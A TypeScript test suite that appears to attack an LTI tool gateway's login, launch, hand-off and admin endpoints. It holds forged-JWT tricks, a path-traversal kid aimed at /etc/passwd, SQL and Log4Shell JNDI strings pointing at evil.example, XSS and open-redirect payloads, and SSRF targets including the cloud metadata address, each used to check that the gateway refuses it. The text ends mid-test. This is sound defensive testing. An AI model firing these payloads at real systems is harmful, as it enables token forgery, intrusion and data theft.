/**
 * Attack suite of the tool gateway (LTI tool role) over real HTTP: /lti/login, /lti/launch, the
 * hand-off API and the gateway admin API. Cases already covered by test/tool/rejections.test.ts
 * (alg none/HS256 with a shared secret, a foreign key under a published kid, unknown kid, iss/aud/azp
 * mismatches, expired / future / too-old tokens, nonce missing/mismatch/replayed, state unknown/used/
 * expired/other browser, three off-site targets, wrong/other-app API keys, used/expired codes) are
 * not repeated here; docs/security-gateway.md lists every case with the test that proves it.
 */
import { createPublicKey, randomBytes } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import { exportJWK, generateKeyPair, SignJWT, type JWTPayload } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CLAIM } from '../../src/lti/claims.ts';
import { useNonce } from '../../src/store/nonces.ts';
import { toolFramable, toolRoutes } from '../../src/apps/gateway.ts';
import { DIALECTS, dropDatabase, freshDatabaseUrl, tempDir } from '../support/db.ts';
import { basicAuth, startRole, type RunningRole } from '../support/servers.ts';
import { AdminApi } from '../support/adminClient.ts';
import { Browser, formPostHeaders } from '../support/browser.ts';
import { readForm } from '../support/htmlForm.ts';
import { expectRefused } from '../support/refused.ts';
import { FakeLms, type TokenTweaks } from '../tool/support/fakeLms.ts';
import { createApp, launch, registerLms, useGateway } from '../tool/support/gatewaySetup.ts';

const now = () => Math.floor(Date.now() / 1000);
const codeOf = (response: Response) => new URL(response.headers.get('location')!).searchParams.get('launch_code')!;
const b64url = (value: unknown) => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');

const adminOf = (url: string, method: string, path: string, body?: unknown) => new AdminApi(url).call(method, path, body);

describe.each(DIALECTS)('gateway attack suite (%s)', (dialect) => {
  const world = useGateway({
    dialect,
    apps: {
      chatbot: { slug: 'chatbot', app_url: 'http://127.0.0.1:9/app' },
      other: { name: 'Other', slug: 'other', app_url: 'http://127.0.0.1:9/other' },
    },
  });
  let attacker: FakeLms;

  beforeAll(async () => {
    attacker = await FakeLms.start();
  });
  afterAll(async () => {
    await attacker?.close();
  });

  const launchWith = async (tweaks: TokenTweaks, targetLinkUri = world.apps.chatbot.launch_url) =>
    (await launch(new Browser(), world.lms, world.gateway, { targetLinkUri, tweaks })).launch!;
  const loginUrl = (params: Record<string, string>) => `${world.gateway.url}/lti/login?${new URLSearchParams({
    iss: world.lms.issuer, login_hint: 'h', target_link_uri: world.apps.chatbot.launch_url, client_id: world.lms.clientId, ...params,
  })}`;
  const redeem = (code: string, key: string | null, headers: Record<string, string> = {}) =>
    fetch(`${world.gateway.url}/api/v1/launches/${code}`, { headers: { ...(key ? { authorization: `Bearer ${key}` } : {}), ...headers } });

  describe('forged signatures and algorithm confusion', () => {
    it('refuses HS256 signed with the platform’s PUBLIC key as the HMAC secret (PEM and JWK forms) (401 alg_not_allowed)', async () => {
      const pem = createPublicKey({ key: world.lms.publicJwk() as any, format: 'jwk' }).export({ type: 'spki', format: 'pem' }) as string;
      for (const secret of [pem, pem.trim(), JSON.stringify(world.lms.publicJwk())]) {
        for (const alg of ['HS256', 'HS384', 'HS512']) {
          await expectRefused(await launchWith({
            sign: (p: JWTPayload) => new SignJWT(p).setProtectedHeader({ alg, kid: 'k1-RS256', typ: 'JWT' }).sign(new TextEncoder().encode(secret)),
          }), 401, 'alg_not_allowed');
        }
      }
    });

    it('refuses every spelling of alg none, with or without a signature part, and a header without alg (401 alg_not_allowed)', async () => {
      for (const header of [{ alg: 'none' }, { alg: 'None' }, { alg: 'NONE' }, { alg: 'nOnE' }, { alg: 'none', kid: 'k1-RS256' }, { kid: 'k1-RS256' }, { alg: '' }]) {
        for (const signature of ['', 'c2lnbmF0dXJl']) {
          await expectRefused(await launchWith({ sign: async (p) => `${b64url(header)}.${b64url(p)}.${signature}` }), 401, 'alg_not_allowed');
        }
      }
    });

    it('never trusts a key the token carries itself: embedded jwk (401 signature_invalid), jku/x5u (not fetched, 401 key_unknown)', async () => {
      const { publicKey, privateKey } = await generateKeyPair('RS256');
      const attackerJwk = { ...(await exportJWK(publicKey)), kid: 'k1-RS256' };
      await expectRefused(await launchWith({
        sign: (p) => new SignJWT(p).setProtectedHeader({ alg: 'RS256', kid: 'k1-RS256', jwk: attackerJwk }).sign(privateKey),
      }), 401, 'signature_invalid');
      const kid = await attacker.addKey('RS256');
      const before = attacker.jwksRequests;
      for (const header of [{ jku: attacker.jwksUrl }, { x5u: `${attacker.url}/cert.pem` }]) {
        await expectRefused(await launchWith({
          sign: (p) => new SignJWT(p).setProtectedHeader({ alg: 'RS256', kid, ...header }).sign((attacker as any).keys.at(-1).privateKey),
        }), 401, 'key_unknown');
      }
      expect(attacker.jwksRequests - before).toBe(0);
    });

    it('refuses a token whose header claims another key type than the published kid (ES256 under an RSA kid) (401)', async () => {
      const { privateKey } = await generateKeyPair('ES256');
      await expectRefused(await launchWith({
        sign: (p) => new SignJWT(p).setProtectedHeader({ alg: 'ES256', kid: 'k1-RS256' }).sign(privateKey),
      }), 401, /key_unknown|signature_invalid/);
    });

    it('refuses a stripped signature, a tampered payload and an unknown critical header (401 signature_invalid)', async () => {
      await expectRefused(await launchWith({ sign: async (p) => (await world.lms.sign(p)).replace(/\.[^.]*$/, '.') }), 401, 'signature_invalid');
      await expectRefused(await launchWith({
        sign: async (p) => {
          const [h, , s] = (await world.lms.sign(p)).split('.');
          return `${h}.${b64url({ ...p, sub: 'someone-else', [CLAIM.roles]: ['Administrator'] })}.${s}`;
        },
      }), 401, 'signature_invalid');
      // jose will not sign an unknown critical header, so the token is put together by hand.
      await expectRefused(await launchWith({
        sign: async (p) => {
          const input = `${b64url({ alg: 'RS256', kid: 'k1-RS256', crit: ['x-evil'], 'x-evil': true })}.${b64url(p)}`;
          const signature = await crypto.subtle.sign('RSASSA-PKCS1-v1_5', (world.lms as any).keys[0].privateKey, new TextEncoder().encode(input));
          return `${input}.${Buffer.from(signature).toString('base64url')}`;
        },
      }), 401, 'signature_invalid');
    });

    it('answers injection-shaped kids with key_unknown, and a flood of unknown kids refetches the JWKS at most once (cooldown)', async () => {
      const before = world.lms.jwksRequests;
      // (A NUL byte in a kid is its own test below: it is a known bug on Postgres.)
      for (const kid of ['../../../../etc/passwd', "' OR '1'='1", '${jndi:ldap://evil.example/a}', 'x'.repeat(2000)]) {
        await expectRefused(await launchWith({
          sign: (p) => new SignJWT(p).setProtectedHeader({ alg: 'RS256', kid }).sign((world.lms as any).keys[0].privateKey),
        }), 401, 'key_unknown');
      }
      expect(world.lms.jwksRequests - before).toBeLessThanOrEqual(1);
    });
  });

  describe('times', () => {
    it('refuses an ancient token that has not "expired" (iat 1970, exp far ahead) (401 token_too_old)', async () => {
      await expectRefused(await launchWith({ claims: { iat: 1, exp: now() + 86_400 * 365 } }), 401, 'token_too_old');
    });

    it('refuses exp/iat that are not numbers (400 claim_missing)', async () => {
      await expectRefused(await launchWith({ claims: { exp: String(now() + 300) } }), 400, 'claim_missing');
      await expectRefused(await launchWith({ claims: { iat: undefined } }), 400, 'claim_missing');
      await expectRefused(await launchWith({ claims: { exp: null } }), 400, 'claim_missing');
    });

    // BUG (src/lti/idTokenChecks.ts, checkTimes): `nbf` is never checked, so a token the platform
    // marked "not valid before" an hour from now is accepted (RFC 7519 §4.1.5: MUST NOT be accepted
    // before nbf). D2L Brightspace sends nbf. Remove `.fails` once checkTimes refuses nbf - skew > now.
    it('refuses a token that is not valid yet by its nbf (401)', async () => {
      const response = await launchWith({ claims: { nbf: now() + 3600 } });
      expect(response.status).toBe(401);
    });
  });

  describe('issuer and audience edge cases', () => {
    it.each([
      ['an issuer with a trailing slash', () => ({ iss: `${world.lms.issuer}/` }), 'iss_mismatch'],
      ['an issuer in upper case', () => ({ iss: world.lms.issuer.toUpperCase() }), 'iss_mismatch'],
      ['an issuer as an array', () => ({ iss: [world.lms.issuer] }), 'iss_mismatch'],
      ['our client id as a prefix of aud', () => ({ aud: `${world.lms.clientId}x`, azp: undefined }), 'aud_mismatch'],
      ['our client id in another case', () => ({ aud: world.lms.clientId.toUpperCase(), azp: undefined }), 'aud_mismatch'],
      ['aud as an object', () => ({ aud: { 0: world.lms.clientId }, azp: undefined }), 'aud_mismatch'],
      ['a single aud with a foreign azp', () => ({ aud: world.lms.clientId, azp: 'client-9' }), 'azp_mismatch'],
    ])('refuses %s (401)', async (_what, claims, code) => {
      await expectRefused(await launchWith({ claims: claims() as Record<string, unknown> }), 401, code);
    });
  });

  describe('replay and tampering of nonce and state', () => {
    it('refuses a captured id_token replayed into a new login (401 nonce_mismatch), and two logins’ tokens swapped', async () => {
      const browser = new Browser();
      const first = await launch(browser, world.lms, world.gateway, { targetLinkUri: world.apps.chatbot.launch_url });
      expect(first.launch!.status).toBe(303);
      const captured = readForm(await (await browser.get(first.login.headers.get('location')!)).text());
      // The captured token (its state is used now) goes with a fresh login's state and cookie.
      const fresh = new Browser();
      const login = await fresh.get(loginUrl({ login_hint: 'replayer' }));
      const state = new URL(login.headers.get('location')!).searchParams.get('state')!;
      await expectRefused(await fresh.post(world.apps.chatbot.launch_url, { id_token: captured.fields.id_token, state }), 401, 'nonce_mismatch');

      const a = new Browser();
      const b = new Browser();
      const formA = readForm(await (await a.get((await a.get(loginUrl({ login_hint: 'a' }))).headers.get('location')!)).text());
      const formB = readForm(await (await b.get((await b.get(loginUrl({ login_hint: 'b' }))).headers.get('location')!)).text());
      await expectRefused(await a.post(world.apps.chatbot.launch_url, { id_token: formB.fields.id_token, state: formA.fields.state }), 401, 'nonce_mismatch');
    });

    it('refuses a tampered state: one character changed, truncated, padded or re-cased (401 state_unknown)', async () => {
      const browser = new Browser();
      const form = readForm(await (await browser.get((await browser.get(loginUrl({ login_hint: 't' }))).headers.get('location')!)).text());
      const s = form.fields.state;
      const flip = (c: string) => (c === 'A' ? 'B' : 'A');
      for (const state of [flip(s[0]) + s.slice(1), s.slice(0, -1), `${s}A`, `${s} `, s.toUpperCase(), `${s}%00`]) {
        await expectRefused(await browser.post(world.apps.chatbot.launch_url, { id_token: form.fields.id_token, state }), 401, 'state_unknown');
      }
      // The genuine state is still usable once by its own browser.
      expect((await browser.post(world.apps.chatbot.launch_url, form.fields)).status).toBe(303);
    });

    it('accepts a fresh state posted without any cookie from another browser, once, and records storage "none" (documented fallback)', async () => {
      // docs/gateway.md §1: when neither a cookie nor platform storage binds the browser, a launch
      // is accepted within 2 minutes of its login, single-use, if the LMS's own page posted it
      // (Origin). This is the residual login-CSRF window listed in docs/security-gateway.md; a
      // wrong cookie, another login's cookie and another site's post are refused (gatewayCsrf.test.ts).
      const owner = new Browser();
      const authPage = await (await owner.get((await owner.get(loginUrl({ login_hint: 'stranger' }))).headers.get('location')!)).text();
      const form = readForm(authPage);
      const stranger = new Browser();
      stranger.cookiesEnabled = false;
      const taken = await stranger.submitForm(authPage, world.lms.url);
      expect(taken.status).toBe(303);
      await expectRefused(await owner.post(world.apps.chatbot.launch_url, form.fields), 401, 'state_used');
      const entries = (await world.gateway.admin('GET', '/launches?outcome=success&limit=5')).body.launches as Array<{ storage: string }>;
      expect(entries[0].storage).toBe('none');
    });

    it('refuses a token from another registered LMS posted with this LMS’s state (401)', async () => {
      await registerLms(world.gateway, attacker, { name: 'Second LMS' });
      await expectRefused(await launchWith({ sign: (p) => attacker.sign({ ...p, iss: attacker.issuer }) }), 401, /signature_invalid|key_unknown|iss_mismatch/);
    });
  });

  describe('open redirects', () => {
    it('never sends the browser anywhere but the registered LMS, with a redirect_uri it owns', async () => {
      const login = await new Browser().get(loginUrl({ login_hint: 'r' }));
      const location = new URL(login.headers.get('location')!);
      expect(location.origin + location.pathname).toBe(world.lms.authorizationEndpoint);
      expect(location.searchParams.get('redirect_uri')).toBe(world.apps.chatbot.launch_url);
    });

    it('refuses login targets that only look like its launch URLs (400 target_link_uri_invalid)', async () => {
      const gw = world.gateway.url;
      const host = new URL(gw).host;
      for (const target of [
        `//evil.example/lti/launch/chatbot`, `${gw}.evil.example/lti/launch/chatbot`, `http://${host}@evil.example/lti/launch/chatbot`,
        `http://evil.example/${host}/lti/launch/chatbot`, `${gw}/lti/launch/chatbot/../../admin`, `${gw}/lti/launch/chatbot%2F..%2F..%2Fadmin`,
        `${gw}/lti/launch/chatbot#@evil.example`, `${gw}/lti/launch\\@evil.example`, `javascript:alert(document.domain)//${host}/lti/launch/chatbot`,
        `${gw}/lti/launchx`, `${gw}/lti/launch/Chatbot`, `${gw.replace('http', 'HTTP')}/lti/launch/chatbot`, `${gw}/lti/launch/-x`,
      ]) {
        const response = await new Browser().get(loginUrl({ target_link_uri: target }));
        await expectRefused(response, 400, 'target_link_uri_invalid');
        expect(response.headers.get('location')).toBeNull();
      }
    });

    it('refuses a launch on the routing URL whose target_link_uri claim points elsewhere, and only ever hands off to the app’s own URL', async () => {
      for (const target of ['https://evil.example/lti/launch/chatbot', `${world.gateway.url}.evil.example/lti/launch/chatbot`]) {
        await expectRefused(await launchWith({ claims: { [CLAIM.targetLinkUri]: target } }, `${world.gateway.url}/lti/launch`), 400, 'target_link_uri_invalid');
      }
      const ok = await launchWith({ claims: { [CLAIM.launchPresentation]: { return_url: 'https://evil.example/', document_target: 'window' } } });
      expect(ok.status).toBe(303);
      const next = new URL(ok.headers.get('location')!);
      expect(next.origin + next.pathname).toBe('http://127.0.0.1:9/app');
    });
  });

  describe('missing, duplicated and malformed parameters', () => {
    it('refuses duplicated login parameters, by GET and by POST (400 login_param_invalid)', async () => {
      for (const name of ['iss', 'login_hint', 'target_link_uri', 'client_id', 'lti_deployment_id', 'lti_message_hint', 'lti_storage_target']) {
        const q = new URLSearchParams({ iss: world.lms.issuer, login_hint: 'h', target_link_uri: world.apps.chatbot.launch_url, client_id: world.lms.clientId });
        q.append(name, 'second-value');
        if (!['iss', 'login_hint', 'target_link_uri', 'client_id'].includes(name)) q.append(name, 'third-value');
        await expectRefused(await fetch(`${world.gateway.url}/lti/login?${q}`, { redirect: 'manual' }), 400, 'login_param_invalid');
        await expectRefused(await fetch(`${world.gateway.url}/lti/login`, {
          method: 'POST', redirect: 'manual', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: q.toString(),
        }), 400, 'login_param_invalid');
      }
    });

    it('refuses a login with no parameters, and a parameter over 4 KiB (400)', async () => {
      await expectRefused(await fetch(`${world.gateway.url}/lti/login`, { redirect: 'manual' }), 400, 'login_param_missing');
      await expectRefused(await fetch(`${world.gateway.url}/lti/login`, { method: 'POST', redirect: 'manual' }), 400, 'login_param_missing');
      await expectRefused(await fetch(loginUrl({ login_hint: 'x'.repeat(5000) }), { redirect: 'manual' }), 400, 'login_param_invalid');
    });

    it('refuses duplicated or non-text id_token/state and odd bodies (4xx with a code)', async () => {
      const post = (body: string, type = 'application/x-www-form-urlencoded') =>
        fetch(world.apps.chatbot.launch_url, { method: 'POST', headers: { 'content-type': type }, body });
      await expectRefused(await post('id_token=a&id_token=b&state=s'), 400, 'id_token_missing');
      await expectRefused(await post('id_token=a&state=s&state=t'), 400, 'state_missing');
      await expectRefused(await post('id_token[x]=a&state=s'), 400, /id_token_missing|state_unknown/);
      await expectRefused(await post(JSON.stringify({ id_token: { a: 1 }, state: ['s'] }), 'application/json'), 400, 'id_token_missing');
      await expectRefused(await post('', 'application/x-www-form-urlencoded'), 400, 'id_token_missing');
      await expectRefused(await post('<xml/>', 'text/xml'), 415, 'request_invalid');
      await expectRefused(await fetch(world.apps.chatbot.launch_url, { method: 'POST' }), 400, 'id_token_missing');
      await expectRefused(await fetch(`${world.gateway.url}/lti/launch/NOT_A_SLUG`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'id_token=a&state=b' }), 400, 'request_invalid');
      await expectRefused(await fetch(world.apps.chatbot.launch_url), 404, 'not_found');
    });
  });

  // Was a bug on Postgres (found by this suite): Postgres text cannot hold U+0000, so a NUL in a
  // login parameter or in the launch's state made a query fail (500). Now every route refuses a
  // NUL in its parameters or form up front (400 request_invalid, src/server/server.ts), and the
  // launch log replaces NUL in the messages it stores (a kid is quoted in key_unknown).
  it('answers NUL bytes in parameters, state and kid with a 4xx, never 500', async () => {
    await expectRefused(await fetch(loginUrl({ iss: `${world.lms.issuer}\u0000` }), { redirect: 'manual' }), 400, 'request_invalid');
    await expectRefused(await fetch(loginUrl({ client_id: 'a\u0000b' }), { redirect: 'manual' }), 400, 'request_invalid');
    await expectRefused(await new Browser().post(world.apps.chatbot.launch_url, { id_token: 'a.b.c', state: 'x\u0000y' }), 400, 'request_invalid');
    await expectRefused(await launchWith({
      sign: (p) => new SignJWT(p).setProtectedHeader({ alg: 'RS256', kid: 'k1\u0000' }).sign((world.lms as any).keys[0].privateKey),
    }), 401, 'key_unknown');
  });

  describe('oversized input', () => {
    it('refuses a 300 KiB launch body (413 request_too_large) and answers a 200 KiB garbage id_token with a code (400)', async () => {
      await expectRefused(await fetch(world.apps.chatbot.launch_url, {
        method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `id_token=${'a'.repeat(300 * 1024)}&state=s`,
      }), 413, 'request_too_large');
      const browser = new Browser();
      const form = readForm(await (await browser.get((await browser.get(loginUrl({ login_hint: 'big' }))).headers.get('location')!)).text());
      await expectRefused(await browser.post(world.apps.chatbot.launch_url, { state: form.fields.state, id_token: `${'e'.repeat(100 * 1024)}.${'f'.repeat(100 * 1024)}.x` }), 400, 'id_token_malformed');
    });

    it('refuses oversized headers and request lines with 431, and stays up', async () => {
      const big = await fetch(`${world.gateway.url}/lti/login`, { headers: { cookie: `a=${'x'.repeat(20 * 1024)}` } });
      expect(big.status).toBe(431);
      const longUrl = await fetch(`${world.gateway.url}/lti/login?iss=${'x'.repeat(20 * 1024)}`);
      expect(longUrl.status).toBe(431);
      expect((await fetch(`${world.gateway.url}/healthz`)).status).toBe(200);
    });

    it('refuses an oversized admin API body (413) and a hand-off code over 128 characters (400 request_invalid)', async () => {
      const response = await fetch(`${world.gateway.url}/admin/api/v1/apps`, {
        method: 'POST', headers: { authorization: basicAuth(), 'content-type': 'application/json' },
        body: JSON.stringify({ name: 'x'.repeat(300 * 1024), slug: 'big', app_url: 'http://127.0.0.1:9/' }),
      });
      await expectRefused(response, 413, 'request_too_large');
      await expectRefused(await redeem('c'.repeat(129), world.apps.chatbot.api_key), 400, 'request_invalid');
    });
  });

  describe('hand-off API', () => {
    it('refuses 200 guessed codes with 404 handoff_unknown and never burns or leaks a real one', async () => {
      const real = codeOf(await launchWith({}));
      const guesses = Array.from({ length: 200 }, (_, i) =>
        i % 4 === 0 ? randomBytes(32).toString('base64url') : i % 4 === 1 ? real.slice(0, -1) + (real.endsWith('A') ? 'B' : 'A') : i % 4 === 2 ? real.slice(0, 20) : `${real}x`);
      const answers = await Promise.all(guesses.map((g) => redeem(encodeURIComponent(g), world.apps.chatbot.api_key)));
      for (const a of answers) await expectRefused(a, 404, 'handoff_unknown');
      const body = await (await redeem(real, world.apps.chatbot.api_key)).json();
      expect(body.user.sub).toBe('user-42');
    });

    it('redeems a code exactly once under 10 concurrent redemptions (one 200, nine 410 handoff_used)', async () => {
      const code = codeOf(await launchWith({}));
      const answers = await Promise.all(Array.from({ length: 10 }, () => redeem(code, world.apps.chatbot.api_key)));
      const statuses = answers.map((a) => a.status).sort();
      expect(statuses).toEqual([200, ...Array(9).fill(410)]);
    });

    it('refuses another app’s key without burning the code, admin credentials, and odd Authorization headers (401/404)', async () => {
      const code = codeOf(await launchWith({}));
      await expectRefused(await redeem(code, world.apps.other.api_key), 404, 'handoff_unknown');
      await expectRefused(await fetch(`${world.gateway.url}/api/v1/launches/${code}`, { headers: { authorization: basicAuth() } }), 401, 'api_key_invalid');
      for (const authorization of [`bearer${world.apps.chatbot.api_key}`, `Bearer ${world.apps.chatbot.api_key}x`, `Bearer ${world.apps.chatbot.api_key.slice(0, -1)}`, `Token ${world.apps.chatbot.api_key}`, 'Bearer ', `Bearer ${'k'.repeat(5000)}`]) {
        await expectRefused(await fetch(`${world.gateway.url}/api/v1/launches/${code}`, { headers: { authorization } }), 401, 'api_key_invalid');
      }
      await expectRefused(await fetch(`${world.gateway.url}/api/v1/launches/${code}?api_key=${world.apps.chatbot.api_key}`), 401, 'api_key_invalid');
      const ok = await redeem(code, world.apps.chatbot.api_key);
      expect(ok.status).toBe(200);
      expect(ok.headers.get('cache-control')).toBe('no-store');
      expect(ok.headers.get('content-type')).toMatch(/^application\/json/);
    });

    it('stops redeeming once the app is deleted (401 api_key_invalid)', async () => {
      const doomed = await createApp(world.gateway, { name: 'Doomed', slug: 'doomed' });
      const code = codeOf(await launchWith({}, doomed.launch_url));
      expect((await world.gateway.admin('DELETE', `/apps/${doomed.id}`)).status).toBe(204);
      await expectRefused(await redeem(code, doomed.api_key), 401, 'api_key_invalid');
    });
  });

  describe('XSS through admin- and attacker-controlled strings', () => {
    const XSS = `<script>alert(1)</script><img src=x onerror=alert(2)>"'`;
    const rawXss = /<script>alert|<img src=x onerror/;

    it('escapes registration and app names on launch pages, error pages, the JWT hand-off page and the admin console', async () => {
      const evilLms = await FakeLms.start();
      try {
        await registerLms(world.gateway, evilLms, { name: `LMS ${XSS}` });
        const evilApp = await createApp(world.gateway, { name: `App ${XSS}`, slug: 'xss-app', app_url: 'http://127.0.0.1:9/xss', handoff: 'jwt' });
        const pages: Array<[string, Response]> = [];
        // An error page that names both (the deployment is refused after the app is known).
        pages.push(['login error', await new Browser().get(`${world.gateway.url}/lti/login?${new URLSearchParams({
          iss: evilLms.issuer, login_hint: 'x', target_link_uri: evilApp.launch_url, client_id: evilLms.clientId, lti_deployment_id: 'nope',
        })}`)]);
        // A launch error page after the registration is known.
        pages.push(['launch error', (await launch(new Browser(), evilLms, world.gateway, { targetLinkUri: evilApp.launch_url, tweaks: { claims: { iss: 'https://impostor.example' } } })).launch!]);
        // The signed-JWT hand-off page shows the app's name.
        pages.push(['jwt hand-off', (await launch(new Browser(), evilLms, world.gateway, { targetLinkUri: evilApp.launch_url })).launch!]);
        // Attacker-controlled text that lands in the launch log: an issuer and an error description.
        await new Browser().get(`${world.gateway.url}/lti/login?${new URLSearchParams({ iss: XSS, login_hint: XSS, target_link_uri: world.apps.chatbot.launch_url })}`);
        pages.push(['platform error', await new Browser().post(world.apps.chatbot.launch_url, { error: XSS, error_description: XSS })]);
        for (const path of ['/admin', '/admin/registrations', '/admin/apps', '/admin/launches', `/admin/apps/${evilApp.id}`]) {
          pages.push([path, await fetch(`${world.gateway.url}${path}`, { headers: { authorization: basicAuth() } })]);
        }
        const launches = (await world.gateway.admin('GET', '/launches?outcome=failure&limit=20')).body.launches as Array<{ id: string }>;
        for (const l of launches.slice(0, 5)) {
          pages.push([`launch ${l.id}`, await fetch(`${world.gateway.url}/admin/launches/${l.id}`, { headers: { authorization: basicAuth() } })]);
        }
        let sawEscaped = 0;
        for (const [name, response] of pages) {
          const body = await response.text();
          expect(response.status, `${name}: ${body.slice(0, 300)}`).toBeLessThan(500);
          expect(body, name).not.toMatch(rawXss);
          if (body.includes('&lt;script&gt;alert(1)&lt;/script&gt;')) sawEscaped += 1;
          const csp = response.headers.get('content-security-policy') ?? '';
          // Pages with an inline script or style get a nonce for it; the others allow none at all.
          expect(csp, name).toMatch(/script-src 'self'( 'nonce-[^']+')?;/);
          expect(csp, name).not.toContain('unsafe-inline');
        }
        expect(sawEscaped).toBeGreaterThanOrEqual(6);
      } finally {
        await evilLms.close();
      }
    });

    it('escapes a hostile lti_storage_target on the platform-storage page', async () => {
      const response = await new Browser().get(loginUrl({ login_hint: 's', lti_storage_target: `"><script>alert(1)</script>` }));
      const body = await response.text();
      expect(response.status).toBe(200);
      expect(body).not.toMatch(rawXss);
      expect(body).toContain('&quot;&gt;&lt;script&gt;');
    });

    it('refuses script and data URLs as an app_url (422)', async () => {
      for (const appUrl of ['javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', 'file:///etc/passwd']) {
        const created = await world.gateway.admin('POST', '/apps', { name: 'Bad', slug: 'bad-url', app_url: appUrl });
        expect(created.status, appUrl).toBe(422);
        expect(created.body.fields.app_url).toBeTruthy();
      }
    });
  });

  describe('gateway admin API', () => {
    it('refuses a registration carrying a private key as its public_jwk (422)', async () => {
      const { privateKey } = await generateKeyPair('RS256', { extractable: true });
      const created = await world.gateway.admin('POST', '/registrations', {
        name: 'Leaky', issuer: 'https://leaky.example', client_id: 'c', deployment_ids: [], authorization_endpoint: 'https://leaky.example/auth',
        public_jwk: await exportJWK(privateKey),
      });
      expect(created.status).toBe(422);
    });

    // Found by this suite and fixed meanwhile (commit "Admin API refuses cross-site writes"):
    // the gateway's admin API used to create a registration from a cross-site form post carrying the
    // browser's cached Basic credentials — a rogue LMS able to launch into every app as anyone.
    it('refuses a cross-site form post to the admin API (403 csrf_cross_site), creating nothing', async () => {
      const form = new URLSearchParams({ name: 'Rogue LMS', issuer: 'https://rogue.example', client_id: 'rogue', authorization_endpoint: 'https://rogue.example/auth', jwks_url: 'https://rogue.example/jwks' });
      form.append('deployment_ids', 'd1');
      form.append('deployment_ids', 'd2');
      const response = await fetch(`${world.gateway.url}/admin/api/v1/registrations`, {
        method: 'POST',
        headers: { authorization: basicAuth(), 'content-type': 'application/x-www-form-urlencoded', origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' },
        body: form.toString(),
      });
      const registrations = (await world.gateway.admin('GET', '/registrations')).body.registrations as Array<{ issuer: string }>;
      expect(registrations.some((r) => r.issuer === 'https://rogue.example')).toBe(false);
      await expectRefused(response, 403, 'csrf_cross_site');
      // A same-site-looking form post (no Origin / Sec-Fetch-Site) is still not JSON: 415, nothing created.
      const plain = await fetch(`${world.gateway.url}/admin/api/v1/keys/rotate`, {
        method: 'POST', headers: { authorization: basicAuth(), 'content-type': 'text/plain' }, body: '{}',
      });
      await expectRefused(plain, 415, /request_not_json|request_invalid/);
    });
  });

  describe('SSRF through a registration’s jwks_url (ALLOW_PRIVATE_URLS off)', () => {
    let strict: RunningRole;
    let canary: Server;
    let canaryHits = 0;
    let canaryPort = 0;

    beforeAll(async () => {
      canary = createServer((_req, res) => {
        canaryHits += 1;
        res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ keys: [world.lms.publicJwk()] }));
      });
      await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
      canaryPort = (canary.address() as { port: number }).port;
      strict = await startRole('tool', toolRoutes, { databaseUrl: null, framable: toolFramable, config: { allowPrivateUrls: false } });
    });
    afterAll(async () => {
      await strict?.close();
      await new Promise<void>((resolve) => canary?.close(() => resolve()));
    });

    const PRIVATE_TARGETS = () => [
      `http://127.0.0.1:${canaryPort}/jwks`, `http://localhost:${canaryPort}/jwks`, `http://127.1:${canaryPort}/jwks`,
      `http://2130706433:${canaryPort}/jwks`, `http://0x7f000001:${canaryPort}/jwks`, `http://[::1]:${canaryPort}/jwks`,
      `http://0.0.0.0:${canaryPort}/jwks`, `http://app.localhost:${canaryPort}/jwks`, `http://[::ffff:127.0.0.1]:${canaryPort}/jwks`,
      'http://169.254.169.254/latest/meta-data/', 'http://10.0.0.1/jwks', 'http://192.168.1.1/jwks', 'http://172.16.0.1/jwks',
      'http://100.64.0.1/jwks', 'http://[fe80::1]/jwks', 'http://[fd00::1]/jwks',
    ];

    // The URL the gateway will fetch is checked on save with the fetch's own policy (one function,
    // src/net/urlPolicy.ts): a key set that could never be fetched is refused as it is typed.
    it('refuses loopback, private, link-local and disguised key set addresses on save, naming ALLOW_PRIVATE_URLS (no request made)', async () => {
      expect(strict.services.config.allowPrivateUrls).toBe(false);
      const created = await adminOf(strict.url, 'POST', '/registrations', {
        name: 'Fake LMS', issuer: world.lms.issuer, client_id: world.lms.clientId, deployment_ids: [], authorization_endpoint: world.lms.authorizationEndpoint,
        jwks_url: 'https://93.184.216.34/jwks',
      });
      expect(created.status, JSON.stringify(created.body)).toBe(201);
      for (const jwksUrl of PRIVATE_TARGETS()) {
        const patched = await adminOf(strict.url, 'PATCH', `/registrations/${created.body.id}`, { jwks_url: jwksUrl });
        expect(patched.status, jwksUrl).toBe(422);
        expect(patched.body.fields.jwks_url, jwksUrl).toMatch(/private or loopback address.*set ALLOW_PRIVATE_URLS=true/);
      }
      expect(canaryHits).toBe(0);
    });

    // A URL saved while ALLOW_PRIVATE_URLS was on stays refused by the fetch itself once it is off.
    it('refuses to fetch such an address stored before (502 jwks_unavailable, the cause in the launch log, no request made)', async () => {
      await adminOf(strict.url, 'POST', '/apps', { name: 'Chatbot', slug: 'chatbot', app_url: 'http://127.0.0.1:9/app' });
      const target = (await adminOf(strict.url, 'GET', '/apps')).body.apps[0].launch_url;
      const registration = (await adminOf(strict.url, 'GET', '/registrations')).body.registrations[0];
      for (const jwksUrl of PRIVATE_TARGETS()) {
        await strict.services.db.updateTable('registrations').set({ jwks_url: jwksUrl }).where('id', '=', registration.id).execute();
        strict.services.cache.invalidate(); // the write bypassed the service, which caches settings per instance
        const run = await launch(new Browser(), world.lms, strict, { targetLinkUri: target });
        await expectRefused(run.launch!, 502, 'jwks_unavailable');
        const { body } = await adminOf(strict.url, 'GET', `/launches?request_id=${run.launch!.headers.get('x-request-id')}`);
        const failed = body.launches[0].steps.find((step: { outcome: string }) => step.outcome === 'failed');
        expect(failed.detail, jwksUrl).toContain('set ALLOW_PRIVATE_URLS=true');
      }
      expect(canaryHits).toBe(0);
    });

    it('does not follow a JWKS redirect, even where private URLs are allowed (502 jwks_unavailable)', async () => {
      const redirector = createServer((_req, res) => res.writeHead(302, { location: world.lms.jwksUrl }).end());
      await new Promise<void>((resolve) => redirector.listen(0, '127.0.0.1', resolve));
      try {
        const port = (redirector.address() as { port: number }).port;
        const second = await FakeLms.start();
